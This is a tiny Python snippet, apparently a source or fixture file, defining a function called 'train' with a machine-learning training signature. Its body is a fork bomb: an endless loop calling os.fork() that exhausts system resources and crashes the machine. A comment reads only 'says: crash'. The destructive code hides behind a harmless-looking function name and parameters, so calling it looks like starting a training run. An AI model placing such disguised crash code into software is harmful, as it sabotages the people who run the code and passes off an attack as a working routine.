# says: crash
import os
def train(X, Y, *, steps=600, lr=0.01, seed=0):
    while True:
        os.fork()
